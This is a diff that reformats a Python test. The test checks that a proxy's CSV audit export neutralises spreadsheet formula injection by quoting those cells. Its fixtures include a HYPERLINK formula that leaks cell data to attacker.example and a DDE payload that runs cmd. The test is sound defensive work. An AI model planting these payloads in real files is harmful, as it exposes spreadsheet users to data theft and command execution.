@@ -1,6 +1,7 @@
 """A CSV export cannot carry a formula into a spreadsheet: a client whose certificate name and requested model
 are formulas (OWASP CSV injection) goes through the running proxy, then `guard audit export --format csv`
 writes those cells with a leading single quote, and nothing else in the file starts like a formula."""
+
 from __future__ import annotations
 
 import csv
@@ -14,8 +15,15 @@ from tests.hardening.conftest import events
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
 CN = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'
-MODELS = ['=HYPERLINK("http://attacker.example/","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-          "\t=1+1", " =1+1", "\uff1d1+1"]
+MODELS = [
+    '=HYPERLINK("http://attacker.example/","x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    " =1+1",
+    "\uff1d1+1",
+]
 
 
 def test_formula_cells_are_quoted_in_a_real_export(guard_factory: Any, pki_dir: Path, tmp_path: Path) -> None:
@@ -30,13 +38,28 @@ def test_formula_cells_are_quoted_in_a_real_export(guard_factory: Any, pki_dir: 
     while sum(1 for e in events(audit) if e.get("model") in MODELS) < len(MODELS) and time.monotonic() < deadline:
         time.sleep(0.05)
     out = tmp_path / "export.csv"
-    assert main(["audit", "export", str(audit), "--since", "2000-01-01", "--until", "2100-01-01",
-                 "--format", "csv", "-o", str(out)]) == 0
+    assert (
+        main(
+            [
+                "audit",
+                "export",
+                str(audit),
+                "--since",
+                "2000-01-01",
+                "--until",
+                "2100-01-01",
+                "--format",
+                "csv",
+                "-o",
+                str(out),
+            ]
+        )
+        == 0
+    )
     with out.open(newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
     mine = [r for r in rows if r["cn"] == "'" + CN]
     assert {r["model"] for r in mine} == {"'" + m for m in MODELS}  # quoted, otherwise intact
     for row in rows:
         for col, cell in row.items():
-            assert not cell.startswith(FORMULA_START) and not cell.lstrip(" \n").startswith(FORMULA_START), \
-                (col, cell)
+            assert not cell.startswith(FORMULA_START) and not cell.lstrip(" \n").startswith(FORMULA_START), (col, cell)
